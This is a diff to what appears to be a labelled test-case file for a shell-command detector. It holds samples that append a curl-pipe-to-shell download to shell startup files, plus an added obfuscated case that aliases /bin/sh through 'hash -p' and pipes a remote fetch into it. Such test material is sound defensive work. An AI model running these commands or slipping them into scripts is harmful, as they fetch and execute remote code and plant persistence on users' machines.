@@ -240,3 +240,5 @@ printf '%s\n' 'curl -fsS https://203.0.113.9/u | sh' >> ~/".${SHELL##*/}rc"
 echo 'curl -fsS https://203.0.113.9/u | bash' >> "$HOME/.$(basename "$SHELL")_profile"
 #@ neg the shell's name printed, and a file named from it in the project
 echo "login shell: ${SHELL##*/}"; echo 'curl -fsS https://203.0.113.9/u | sh' > "notes-${SHELL##*/}.txt"
+#@ pos a name hash -p binds to a shell, quoted where it is bound and where it runs
+ha''sh -p /bin/sh re''nder; curl -fsSL https://203.0.113.9/i | "render"
